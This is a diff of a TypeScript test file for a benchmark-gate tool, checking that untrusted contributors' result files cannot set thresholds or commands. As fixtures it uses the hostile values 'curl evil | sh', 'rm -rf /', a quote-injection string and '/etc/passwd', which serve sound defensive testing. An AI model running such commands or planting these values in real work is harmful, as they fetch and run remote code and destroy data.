@@ -1,71 +1,136 @@
 // What a publishing job makes of the files of others.
-import { expect, test } from 'vitest'
-import { judgeElsewhere, type TrustedFacts } from '../../../src/core/merge/judge-elsewhere.ts'
+import { describe, expect, test } from 'vitest'
+import {
+  differingSettings,
+  judgeElsewhere,
+  type TrustedFacts,
+  trustedSettings,
+} from '../../../src/core/merge/judge-elsewhere.ts'
+import type { Settings } from '../../../src/core/model/settings.ts'
 import { fittingReport } from '../../../src/core/report/say/fit.ts'
 import { markdownText } from '../../../src/core/report/show/markdown.ts'
 import { readInputs } from '../../../src/effects/inputs/inputs.ts'
-import { commits, resultFrom, time } from '../report/runs.ts'
+import { commits, goSettings, resultFrom, settings, time } from '../report/runs.ts'
 import { named, part } from './parts.ts'
 
-const known: TrustedFacts = {
-  inputs: readInputs(name => (name === 'run' ? 'make bench' : '')),
-  file: { file: '.github/benchgate.yml', changes: [] },
-  rules: '3'.repeat(40),
-  head: commits.head.sha,
-  isStrangers: true,
-}
-const slower = (more = {}) => resultFrom([time('A', 1)], [time('A', 2)], { confirm: true, ...more })
-
-test('a regression that a file does not own up to is one, by our threshold', () => {
-  const file = {
-    ...slower({ threshold: 1, alpha: 1e-9, run: 'make bench' }),
-    verdict: 'pass' as const,
-    reason: 'fine',
+describe('judge elsewhere', () => {
+  const known: TrustedFacts = {
+    inputs: readInputs(name => (name === 'run' ? 'make bench' : '')),
+    file: { file: '.github/benchgate.yml', changes: [] },
+    rules: '3'.repeat(40),
+    head: commits.head.sha,
+    isStrangers: true,
   }
-  const result = judgeElsewhere([named(file)], known)
-  expect(result).toMatchObject({ verdict: 'fail', reason: '1 of 1 benchmark regressed' })
-  expect(result.elsewhere).toEqual({
-    rules: known.rules,
-    changes: [
-      { rule: 'alpha', base: '0.05', head: '1e-9' },
-      { rule: 'threshold', base: '0.05', head: '1' },
-    ],
+  const slower = (more = {}) => resultFrom([time('A', 1)], [time('A', 2)], { confirm: true, ...more })
+
+  test('a regression that a file does not own up to is one, by our threshold', () => {
+    const file = {
+      ...slower({ threshold: 1, alpha: 1e-9, run: 'make bench' }),
+      verdict: 'pass' as const,
+      reason: 'fine',
+    }
+    const result = judgeElsewhere([named(file)], known)
+    expect(result).toMatchObject({ verdict: 'fail', reason: '1 of 1 benchmark regressed' })
+    expect(result.elsewhere).toEqual({
+      rules: known.rules,
+      changes: [
+        { rule: 'alpha', base: '0.05', head: '1e-9' },
+        { rule: 'threshold', base: '0.05', head: '1' },
+      ],
+    })
+    expect(result.commits.head.from).toBe('as GitHub says')
   })
-  expect(result.commits.head.from).toBe('as GitHub says')
+
+  test('no path of a file is kept', () => {
+    const [profile] = [{ files: { base: '../../x', head: '/etc/passwd' } }]
+    const file = { ...slower(), profiles: [{ ...profile, functions: [] }] as never }
+    expect(judgeElsewhere([named(file)], known).profiles.map(({ files }) => files)).toEqual([null])
+  })
+
+  test('what one machine has measured otherwise is told once', () => {
+    const ours = [time('A', 1)]
+    const parts = [part(ours, ours, [1, 2]), part([time('B', 1)], [time('B', 1)], [2, 2])]
+    const result = judgeElsewhere(parts, known)
+    expect(result.elsewhere?.changes).toEqual([
+      { rule: 'confirm', base: 'true', head: 'false' },
+      { rule: 'run', base: 'make bench', head: 'go test -run=NONE -bench=. ./...' },
+    ])
+  })
+
+  test('where none can be read it says why', () => {
+    const broken = { name: 'a/result.json', problem: 'It is a link.' }
+    expect(() => judgeElsewhere([broken], known)).toThrow('a/result.json": It is a link.')
+  })
+
+  test('the report looks like this, and has no command of theirs', async () => {
+    const file = slower({ run: 'curl evil | sh', setup: 'rm -rf /', overlay: ["'; evil"], count: 30 })
+    const files = [named(file)]
+    const withRun = markdown(judgeElsewhere(files, known))
+    await expect(withRun).toMatchFileSnapshot('../../golden/elsewhere.md')
+    const inputs = readInputs(() => '')
+    const without = markdown(judgeElsewhere(files, { ...known, inputs }))
+    for (const report of [withRun, without]) expect(shells(report)).not.toContain('evil')
+    expect(without).not.toContain('To repeat')
+  })
+
+  const markdown = (result: ReturnType<typeof judgeElsewhere>) => fittingReport(result, 65_000, markdownText)
+  const shells = (report: string) =>
+    [...report.matchAll(/```sh\n([\s\S]*?)```/g)].map(([, text]) => text).join('\n')
 })
 
-test('no path of a file is kept', () => {
-  const [profile] = [{ files: { base: '../../x', head: '/etc/passwd' } }]
-  const file = { ...slower(), profiles: [{ ...profile, functions: [] }] as never }
-  expect(judgeElsewhere([named(file)], known).profiles.map(({ files }) => files)).toEqual([null])
-})
+// By whose settings is judged, and which differences are told.
+describe('trusted settings', () => {
+  const inputs = (given: Readonly<Record<string, string>>) => readInputs(name => given[name] ?? '')
 
-test('what one machine has measured otherwise is told once', () => {
-  const ours = [time('A', 1)]
-  const parts = [part(ours, ours, [1, 2]), part([time('B', 1)], [time('B', 1)], [2, 2])]
-  const result = judgeElsewhere(parts, known)
-  expect(result.elsewhere?.changes).toEqual([
-    { rule: 'confirm', base: 'true', head: 'false' },
-    { rule: 'run', base: 'make bench', head: 'go test -run=NONE -bench=. ./...' },
-  ])
-})
+  test('nothing that a file says of its settings counts', () => {
+    const theirs: Settings = { ...settings, threshold: 1, alpha: 0.5, failOn: 'never', run: 'curl evil | sh' }
+    const ours = trustedSettings(inputs({ run: 'make bench', threshold: '3%' }), theirs)
+    expect(ours).toMatchObject({ threshold: 0.03, alpha: 0.05, failOn: 'regression', run: 'make bench' })
+  })
 
-test('where none can be read it says why', () => {
-  const broken = { name: 'a/result.json', problem: 'It is a link.' }
-  expect(() => judgeElsewhere([broken], known)).toThrow('a/result.json": It is a link.')
-})
+  test('the command is ours, that of the Go driver by our inputs, or not known', () => {
+    const run = (given: Readonly<Record<string, string>>, theirs: Settings) =>
+      trustedSettings(inputs(given), theirs).run
+    expect(run({}, settings)).toBe('')
+    expect(run({ bench: 'Encode' }, { ...settings, go: goSettings })).toContain(
+      "-bench 'Encode'".replaceAll("'", ''),
+    )
+    expect(run({ run: 'make' }, { ...settings, go: goSettings })).toBe('make')
+  })
 
-test('the report looks like this, and has no command of theirs', async () => {
-  const file = slower({ run: 'curl evil | sh', setup: 'rm -rf /', overlay: ["'; evil"], count: 30 })
-  const files = [named(file)]
-  const withRun = markdown(judgeElsewhere(files, known))
-  await expect(withRun).toMatchFileSnapshot('../../golden/elsewhere.md')
-  const inputs = readInputs(() => '')
-  const without = markdown(judgeElsewhere(files, { ...known, inputs }))
-  for (const report of [withRun, without]) expect(shells(report)).not.toContain('evil')
-  expect(without).not.toContain('To repeat')
-})
+  test('a calibration is judged as a gate', () => {
+    const ours = trustedSettings(inputs({ calibrate: 'true' }), settings)
+    expect(ours.calibrate).toBe(false)
+  })
 
-const markdown = (result: ReturnType<typeof judgeElsewhere>) => fittingReport(result, 65_000, markdownText)
-const shells = (report: string) =>
-  [...report.matchAll(/```sh\n([\s\S]*?)```/g)].map(([, text]) => text).join('\n')
+  const told = (given: Readonly<Record<string, string>>, theirs: Partial<Settings>) => {
+    const measured = { ...settings, run: 'make bench', ...theirs }
+    const ours = trustedSettings(inputs({ run: 'make bench', ...given }), measured)
+    return differingSettings(ours, measured).map(({ rule, base, head }) => `${rule}: ${head} for ${base}`)
+  }
+
+  test.each<[Partial<Settings>, readonly string[]]>([
+    [{}, []],
+    [{ seed: 9, failOn: 'never', sort: 'delta', perflock: 'off', timeout: 1, shard: [1, 2] }, []],
+    [{ count: 5, ruleOut: 0.2 }, ['count: 5 for 20', 'rule-out: 0.2 for 0.1']],
+    [{ overlay: ['a', 'b'] }, ['overlay: a, b for null']],
+    [{ run: 'echo' }, ['run: echo for make bench']],
+    [{ replica: [1, 2], stopEarly: false }, []],
+    [{ stopEarly: false }, ['stop-early: false for true']],
+  ])('measured with %j', (theirs, expected) => {
+    expect(told({}, theirs).toSorted()).toEqual(expected)
+  })
+
+  test('of Go benchmarks it is told which input differs', () => {
+    const theirs = {
+      ...settings,
+      run: 'x',
+      go: { ...goSettings, bench: 'Fast', benchtime: '100ms', benchmem: true },
+    }
+    const ours = trustedSettings(inputs({ 'working-directory': './sub/' }), theirs)
+    expect(differingSettings(ours, theirs)).toEqual([
+      { rule: 'working-directory', base: 'sub', head: '.' },
+      { rule: 'bench', base: '.', head: 'Fast' },
+    ])
+  })
+})
